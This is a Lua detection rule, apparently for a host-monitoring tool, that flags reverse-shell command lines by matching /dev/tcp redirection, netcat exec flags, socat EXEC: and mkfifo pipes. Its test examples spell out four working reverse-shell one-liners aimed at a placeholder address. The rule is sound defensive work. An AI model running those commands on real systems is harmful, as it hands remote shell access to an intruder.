local lists = require "moonwatch.lists"
local match = require "moonwatch.match"

local netcats = { nc = true, ncat = true, netcat = true, ["nc.traditional"] = true, ["nc.openbsd"] = true }

return {
  id = "reverse_shell_cmdline",
  summary = "Command line of a reverse shell",
  why = "These ways to tie a shell to a socket have hardly another use.",
  on = { "process.exec" },
  severity = "high",
  attack = { "T1059.004", "T1095" },
  message = "{process.parent.name} started a reverse shell: {process.cmdline}",
  false_positives = { "Wait-for-it scripts that probe a port by /dev/tcp" },
  match = function(event)
    local process = event.process
    local cmdline = process.cmdline
    if match.contains(cmdline, "/dev/tcp/") or match.contains(cmdline, "/dev/udp/") then
      return match.named(process, lists.shells)
    end
    if netcats[process.name] then
      return match.has_arg(process, "-e", "-c", "--exec", "--sh-exec", "-ne", "-lvpe")
    end
    if process.name == "socat" then
      return match.contains(cmdline, "EXEC:") or match.contains(cmdline, "SYSTEM:")
    end
    return match.contains(cmdline, "mkfifo") and match.contains_any(cmdline, { "nc ", "ncat ", "s_client" })
  end,
  examples = {
    { expect = true, event = { process =
      { name = "bash", argv = { "bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1" } } } },
    { expect = true, event = { process = { name = "nc", argv = { "nc", "-e", "/bin/sh", "10.0.0.1", "4444" } } } },
    { expect = true, event = { process =
      { name = "socat", argv = { "socat", "TCP:10.0.0.1:4444", "EXEC:/bin/sh" } } } },
    { expect = true, event = { process =
      { name = "sh", argv = { "sh", "-c", "mkfifo /tmp/f; nc 10.0.0.1 4444 </tmp/f | sh >/tmp/f" } } } },
    { expect = false, event = { process = { name = "nc", argv = { "nc", "-z", "db", "5432" } } } },
    { expect = false, event = { process = { name = "grep", argv = { "grep", "/dev/tcp/", "x" } } } },
    { expect = false, event = { process = { name = "socat", argv = { "socat", "-", "UNIX:/run/x" } } } },
  },
}
